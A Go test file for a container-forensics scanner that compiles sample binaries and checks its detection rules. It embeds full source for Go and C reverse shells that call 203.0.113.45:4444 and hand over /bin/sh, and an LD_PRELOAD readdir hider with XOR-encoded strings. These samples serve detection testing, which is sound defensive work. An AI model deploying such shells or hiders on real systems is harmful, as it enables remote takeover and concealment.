package binary

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/strata-forensics/strata/audit"
	"github.com/strata-forensics/strata/forensics"
)

// Our own samples, compiled by the test: they are never run.
const (
	goReverseShell = `package main

import (
	"net"
	"os/exec"
	"time"
)

func main() {
	for {
		c, err := net.Dial("tcp", "203.0.113.45:4444")
		if err != nil {
			time.Sleep(time.Minute)
			continue
		}
		cmd := exec.Command("/bin/sh")
		cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
		cmd.Run()
		c.Close()
	}
}
`
	goClean = `package main

import (
	"fmt"
	"net/http"
)

func main() {
	resp, err := http.Get("http://127.0.0.1:8080/healthz")
	if err != nil {
		fmt.Println(err)
		return
	}
	fmt.Println(resp.Status)
}
`
	cStaticShell = `#include <arpa/inet.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void) {
	struct sockaddr_in sa = {0};
	sa.sin_family = AF_INET;
	sa.sin_port = htons(4444);
	inet_pton(AF_INET, "203.0.113.45", &sa.sin_addr);
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(s, (struct sockaddr *)&sa, sizeof sa) != 0) return 1;
	for (int i = 0; i < 3; i++) dup2(s, i);
	char *argv[] = {"/bin/sh", 0};
	execve("/bin/sh", argv, 0);
	return 0;
}
`
	// A process and file hider: readdir that skips entries, strings XOR-encoded with 0x5a.
	cHider = `#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <string.h>
static const char hidden[] = {0x75,0x2a,0x28,0x35,0x39,0x75,0}; /* "/proc/" ^ 0x5a */
static struct dirent *(*real_readdir)(DIR *);
struct dirent *readdir(DIR *d) {
	if (!real_readdir) real_readdir = dlsym(RTLD_NEXT, "readdir");
	struct dirent *e;
	char name[8];
	for (int i = 0; hidden[i]; i++) name[i] = hidden[i] ^ 0x5a;
	while ((e = real_readdir(d)) && strstr(e->d_name, "kworker") && name[0]) {}
	return e;
}
`
	// An interposer of one file function, as a profiler or sandbox would be.
	cInterposer = `#define _GNU_SOURCE
#include <dlfcn.h>
#include <stdio.h>
static FILE *(*real_fopen)(const char *, const char *);
FILE *fopen(const char *p, const char *m) {
	if (!real_fopen) real_fopen = dlsym(RTLD_NEXT, "fopen");
	return real_fopen(p, m);
}
`
)

func build(t *testing.T, lang, src string, args ...string) []byte {
	t.Helper()
	dir := t.TempDir()
	out := filepath.Join(dir, "out")
	var cmd *exec.Cmd
	switch lang {
	case "go":
		if err := os.WriteFile(filepath.Join(dir, "main.go"), []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, "go.mod"), []byte("module example.org/tool\n\ngo 1.21\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		cmd = exec.Command(goTool(t), append([]string{"build", "-o", out}, args...)...)
		cmd.Env = append(os.Environ(), "CGO_ENABLED=0", "GOFLAGS=-mod=mod")
	case "c":
		if _, err := exec.LookPath("gcc"); err != nil {
			t.Skip("gcc is not installed")
		}
		if err := os.WriteFile(filepath.Join(dir, "x.c"), []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
		cmd = exec.Command("gcc", append(args, "-o", out, filepath.Join(dir, "x.c"))...)
	}
	cmd.Dir = dir
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Skipf("cannot build the %s sample here: %v\n%s", lang, err, b)
	}
	data, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func content(p string, data []byte) []audit.Finding {
	return New().Content(audit.File{Layer: 1, Entry: &forensics.Entry{Path: p, Size: int64(len(data)), Mode: 0o755}}, data)
}

func rulesOf(fs []audit.Finding) string {
	var out []string
	for _, f := range fs {
		out = append(out, f.Rule+"/"+f.Severity.String())
	}
	return strings.Join(out, " ")
}

func TestCompiledBehaviour(t *testing.T) {
	if testing.Short() {
		t.Skip("compiles samples")
	}
	tests := []struct {
		name, lang, src string
		args            []string
		path            string
		want            string // rule/severity list
	}{
		{"go reverse shell", "go", goReverseShell, []string{"-trimpath", "-ldflags=-s -w"}, "/usr/local/bin/kupdate", "STRATA-RS-021/high"},
		{"go reverse shell with symbols", "go", goReverseShell, nil, "/usr/local/bin/kupdate", "STRATA-RS-021/high"},
		{"go client", "go", goClean, nil, "/usr/local/bin/probe", ""},
		{"static C reverse shell", "c", cStaticShell, []string{"-static", "-O2"}, "/usr/bin/netd", "STRATA-RS-021/high"},
		{"readdir hider", "c", cHider, []string{"-shared", "-fPIC", "-O0"}, "/usr/lib/libhide.so", "STRATA-LP-005/high STRATA-LP-006/high"},
		{"fopen interposer", "c", cInterposer, []string{"-shared", "-fPIC"}, "/usr/lib/libtrace.so", "STRATA-LP-005/low"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			data := build(t, tt.lang, tt.src, tt.args...)
			fs := content(tt.path, data)
			if got := rulesOf(fs); got != tt.want {
				for _, f := range fs {
					t.Logf("%s %s: %s [%s]", f.Rule, f.Severity, f.Title, f.Evidence)
				}
				t.Fatalf("got %q, want %q", got, tt.want)
			}
		})
	}
}

// The Go toolchain's own programs (net, os/exec, big and with modules) are not shells.
func TestGoToolchainSilent(t *testing.T) {
	out, err := exec.Command(goTool(t), "env", "GOROOT").Output()
	if err != nil {
		t.Skipf("go env GOROOT: %v", err)
	}
	root := strings.TrimSpace(string(out))
	files, _ := filepath.Glob(filepath.Join(root, "bin", "*"))
	tools, _ := filepath.Glob(filepath.Join(root, "pkg", "tool", "*", "*"))
	n := 0
	for _, f := range append(files, tools...) {
		data, err := os.ReadFile(f)
		if err != nil || len(data) < 64 {
			continue
		}
		n++
		if fs := content("/usr/local/go/bin/"+filepath.Base(f), data); len(fs) > 0 {
			t.Errorf("%s: %s", f, rulesOf(fs))
		}
	}
	if n == 0 {
		t.Skip("no Go toolchain binaries found")
	}
}

// goTool is the go command the tests build with, or a skip.
func goTool(t *testing.T) string {
	t.Helper()
	p, err := exec.LookPath("go")
	if err != nil {
		t.Skip("no go command")
	}
	return p
}
